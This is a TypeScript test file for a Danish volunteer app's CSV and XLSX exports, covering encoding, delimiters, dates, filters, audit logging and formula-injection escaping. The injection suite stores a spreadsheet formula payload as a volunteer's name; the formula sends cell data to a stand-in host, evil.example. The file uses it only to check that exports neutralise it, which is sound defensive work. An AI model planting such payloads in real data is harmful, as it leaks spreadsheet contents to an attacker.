import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import ExcelJS from 'exceljs';
import request from 'supertest';
import { createTestApp, type TestApp } from './app';
import { createCourse, Factory } from './factories';
import { COORDINATOR_PASSWORD } from './factories';
import { signedInAgent } from './pages';
import { staffRequests } from './staff-requests';

/** Collects a download's bytes as they came, so the BOM and the XLSX zip stay intact. */
const bytes = (res: request.Response, done: (err: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => done(null, Buffer.concat(chunks)));
};

const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

/** A CSV export: the BOM first, then `;`-separated UTF-8 read back by csv-parse. */
function readCsv(body: Buffer): string[][] {
  expect(body.subarray(0, 3).equals(BOM)).toBe(true);
  const rows: string[][] = parse(body.subarray(3).toString('utf8'), { delimiter: ';' });
  return rows;
}

async function readXlsx(body: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0];
  const rows: ExcelJS.CellValue[][] = [];
  sheet.eachRow((row) => rows.push((row.values as ExcelJS.CellValue[]).slice(1)));
  return { sheet, rows };
}

/** Today in Copenhagen as dd-mm-yyyy, the day the test's applications were made. */
const todayDanish = () => {
  const [y, m, d] = new Intl.DateTimeFormat('en-CA', {
    timeZone: 'Europe/Copenhagen',
    year: 'numeric',
    month: '2-digit',
    day: '2-digit',
  })
    .format(new Date())
    .split('-');
  return `${d}-${m}-${y}`;
};

describe('exports of lists (CSV for Danish Excel, XLSX)', () => {
  let t: TestApp;
  let factory: Factory;
  let branchCode: string;
  let coordinator: { email: string; token: string };
  let special: { id: string; email: string };
  const api = staffRequests(() => ({ t, token: coordinator.token }));

  beforeAll(async () => {
    t = await createTestApp();
    factory = new Factory(t);
    branchCode = await factory.branch();
    coordinator = await factory.coordinator(branchCode);
    special = await factory.apply({ branchCode, firstName: 'Søren Åge', lastName: 'Ærø' });
    // A `;` in a name must come out quoted, not as a new column. The form refuses few
    // characters, but set it directly so the test does not depend on that.
    await t.db.query(`UPDATE volunteer SET last_name = 'Ærø; Bæk' WHERE id = $1`, [special.id]);
    for (let i = 0; i < 3; i += 1) {
      await factory.apply({ branchCode, lastName: `Hansen${i}`, postcode: '8200' });
    }
    // Another branch: never in this coordinator's export.
    const other = await factory.branch();
    await factory.apply({ branchCode: other, lastName: 'Andenafdeling' });
  });

  afterAll(async () => {
    await t.close();
  });

  const download = (path: string, query: Record<string, string>) =>
    api.staff(request(t.http).get(path)).query(query).buffer(true).parse(bytes).expect(200);

  it('should write every matching volunteer as Danish CSV, ignoring limit and offset', async () => {
    const res = await download('/api/v1/volunteers', { format: 'csv', limit: '1', offset: '1' });
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="frivillige-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    const [header, ...rows] = readCsv(res.body as Buffer);
    expect(header).toEqual(['Navn', 'E-mail', 'Telefon', 'Ansøgt', 'Trin']);
    expect(rows).toHaveLength(4);
    const row = rows.find((r) => r[1] === special.email)!;
    expect(row).toEqual([
      'Søren Åge Ærø; Bæk',
      special.email,
      // A `'` first: Excel would read `+45 …` as a formula.
      "'+45 20 30 40 50",
      todayDanish(),
      'Ansøgt',
    ]);
    // The raw text: `;` separates, the name with a `;` inside is quoted.
    const text = (res.body as Buffer).toString('utf8');
    expect(text).toContain(`"Søren Åge Ærø; Bæk";${special.email};`);
    expect(text.split('\r\n')[0]).toBe('\uFEFFNavn;E-mail;Telefon;Ansøgt;Trin');
  });

  it('should apply the list filters to the file: the same rows as the filtered total', async () => {
    const json = await api
      .staff(request(t.http).get('/api/v1/volunteers'))
      .query({ postcode: '82', limit: '1' })
      .expect(200);
    expect(json.body.total).toBe(3);
    const res = await download('/api/v1/volunteers', { postcode: '82', format: 'xlsx' });
    expect(res.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(res.headers['content-disposition']).toMatch(/filename="frivillige-[\d-]+\.xlsx"/);
    const { sheet, rows } = await readXlsx(res.body as Buffer);
    expect(rows[0]).toEqual(['Navn', 'E-mail', 'Telefon', 'Ansøgt', 'Trin']);
    expect(rows.length - 1).toBe(json.body.total);
    // A real date cell shown dd-mm-yyyy, holding today's date.
    const applied = sheet.getCell('D2');
    expect(applied.value).toBeInstanceOf(Date);
    expect(applied.numFmt).toBe('dd-mm-yyyy');
    const [d, m, y] = todayDanish().split('-');
    expect((applied.value as Date).toISOString().slice(0, 10)).toBe(`${y}-${m}-${d}`);
  });

  it('should audit who exported which list with which filters', async () => {
    await download('/api/v1/volunteers', { format: 'csv', postcode: '82', stage: 'applied' });
    const [event] = await t.db.query(
      `SELECT a.actor_id, a.details, u.email FROM audit_event a JOIN staff_user u ON u.id = a.actor_id
        WHERE a.action = 'volunteers.exported' ORDER BY a.id DESC LIMIT 1`,
    );
    expect(event.email).toBe(coordinator.email);
    expect(event.details).toMatchObject({
      list: 'volunteers',
      format: 'csv',
      postcode: '82',
      stage: 'applied',
      rows: 3,
    });
  });

  it('should refuse a format it does not know with 400 on format', async () => {
    const res = await api
      .staff(request(t.http).get('/api/v1/volunteers'))
      .query({ format: 'pdf' })
      .expect(400);
    expect(JSON.stringify(res.body)).toContain('format');
  });

  it("should export a course's participants and attendance grid as CSV and XLSX", async () => {
    const course = await createCourse(t, coordinator.token, { branchCode, title: 'Kursus å' });
    await api.book(course.id, special.id).expect(201);
    const participants = await download(`/api/v1/courses/${course.id}/participants`, {
      format: 'csv',
    });
    expect(participants.headers['content-disposition']).toMatch(
      /filename="deltagere-kursus-aa\.csv"/,
    );
    expect(readCsv(participants.body as Buffer)).toEqual([
      ['Navn', 'Status', 'Nr. på venteliste'],
      ['Søren Åge Ærø; Bæk', 'Tilmeldt', ''],
    ]);

    const attendance = await download(`/api/v1/courses/${course.id}/attendance`, {
      format: 'xlsx',
    });
    const { rows } = await readXlsx(attendance.body as Buffer);
    expect(rows[0].slice(0, 2)).toEqual(['Deltager', 'Indhenter']);
    expect(rows[0]).toHaveLength(2 + course.sessions.length);
    expect(rows[0][2]).toMatch(/^\d{2}-\d{2}-\d{4} \d{2}:\d{2}$/);
    expect(rows).toHaveLength(2);
    expect(rows[1][0]).toBe('Søren Åge Ærø; Bæk');

    const [event] = await t.db.query(
      `SELECT details FROM audit_event WHERE action = 'course.exported' ORDER BY id DESC LIMIT 1`,
    );
    expect(event.details).toMatchObject({
      list: 'attendance',
      courseId: course.id,
      format: 'xlsx',
    });
  });

  it('should offer the downloads on the pages, with the filters, and answer them', async () => {
    const agent = await signedInAgent(t, coordinator.email, COORDINATOR_PASSWORD);
    const list = await agent.get('/staff/volunteers?postcode=82').expect(200);
    const href = /href="(\/staff\/exports\/volunteers\?[^"]+)"/
      .exec(list.text)![1]
      .replace(/&#x3D;/g, '=')
      .replace(/&amp;/g, '&');
    expect(href).toBe('/staff/exports/volunteers?postcode=82&format=csv');
    const file = await agent.get(href).buffer(true).parse(bytes).expect(200);
    expect(readCsv(file.body as Buffer)).toHaveLength(4);

    const pool = await agent.get('/staff/pool').expect(200);
    expect(pool.text).toContain('/staff/exports/pool?format&#x3D;xlsx');
    const poolFile = await agent
      .get('/staff/exports/pool?format=csv')
      .buffer(true)
      .parse(bytes)
      .expect(200);
    expect(readCsv(poolFile.body as Buffer)).toEqual([
      ['Navn', 'Postnummer', 'Tid', 'Sprog', 'Klar siden'],
    ]);
  });
});

describe('exports of text a person typed (CSV formula injection)', () => {
  let t: TestApp;
  let factory: Factory;
  let branchCode: string;
  let coordinator: { email: string; token: string };
  const api = staffRequests(() => ({ t, token: coordinator.token }));
  const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")';
  // Name as the lists write it: first and last name.
  const NAME = `${FORMULA} Hansen`;
  let applicant: { id: string; email: string };

  beforeAll(async () => {
    t = await createTestApp();
    factory = new Factory(t);
    branchCode = await factory.branch();
    coordinator = await factory.coordinator(branchCode);
    applicant = await factory.apply({ branchCode, firstName: FORMULA, lastName: 'Hansen' });
  });

  afterAll(async () => {
    await t.close();
  });

  const download = (path: string, query: Record<string, string>) =>
    api.staff(request(t.http).get(path)).query(query).buffer(true).parse(bytes).expect(200);

  it("should write a name or phone starting with =, +, -, @ after a ' in the list CSV", async () => {
    const res = await download('/api/v1/volunteers', { format: 'csv' });
    const [, ...rows] = readCsv(res.body as Buffer);
    const row = rows.find((r) => r[1] === applicant.email)!;
    expect(row[0]).toBe(`'${NAME}`);
    expect(row[2]).toBe("'+45 20 30 40 50");
    // No cell of the file starts with a formula character.
    for (const cell of rows.flat()) {
      expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('should keep the name as a plain string cell, not a formula, in the XLSX', async () => {
    const res = await download('/api/v1/volunteers', { format: 'xlsx' });
    const { sheet, rows } = await readXlsx(res.body as Buffer);
    const index = rows.findIndex((r) => r[1] === applicant.email);
    const cell = sheet.getCell(`A${index + 1}`);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(NAME);
    expect(sheet.getCell(`C${index + 1}`).value).toBe('+45 20 30 40 50');
  });

  it("should write the name after a ' in a course's participants CSV", async () => {
    const course = await createCourse(t, coordinator.token, { branchCode, title: 'Kursus' });
    await api.book(course.id, applicant.id).expect(201);
    const res = await download(`/api/v1/courses/${course.id}/participants`, { format: 'csv' });
    expect(readCsv(res.body as Buffer)).toEqual([
      ['Navn', 'Status', 'Nr. på venteliste'],
      [`'${NAME}`, 'Tilmeldt', ''],
    ]);
  });

  it("should write the name after a ' in the pool CSV (an imported, matchable volunteer)", async () => {
    // The import makes a matchable volunteer through the API: approved, a clean
    // certificate and the course before Klar.
    const email = `pool.${Date.now().toString(36)}@example.org`;
    const file = stringify(
      [
        [
          'Fornavn',
          'Efternavn',
          'E-mail',
          'Telefon',
          'Postnummer',
          'Ansøgt',
          'Hjemmebesøg',
          'Udfald',
          'Børneattest modtaget',
          'Børneattest resultat',
          'Kursus gennemført',
          'Sprog',
          'Tider',
          'Noter',
        ],
        [
          '@SUM(1+1)',
          'Jensen',
          email,
          '+45 20 30 40 51',
          '8000',
          '02-09-2026',
          '24-09-2026',
          'godkendt',
          '10-10-2026',
          'ren',
          '15-05-2025',
          'Dansk',
          'Weekend',
          '',
        ],
      ],
      { delimiter: ';' },
    );
    const imported = await request(t.http)
      .post('/api/v1/imports')
      .auth(coordinator.token, { type: 'bearer' })
      .field('dryRun', 'false')
      .attach('file', Buffer.from(file, 'utf8'), 'pool.csv')
      .expect(200);
    expect(imported.body).toMatchObject({ created: 1, errorRows: 0 });
    const agent = await signedInAgent(t, coordinator.email, COORDINATOR_PASSWORD);
    const pool = await agent
      .get('/staff/exports/pool?format=csv')
      .buffer(true)
      .parse(bytes)
      .expect(200);
    const [header, ...rows] = readCsv(pool.body as Buffer);
    expect(header[0]).toBe('Navn');
    expect(rows.map((r) => r[0])).toEqual(["'@SUM(1+1) Jensen"]);
  });
});
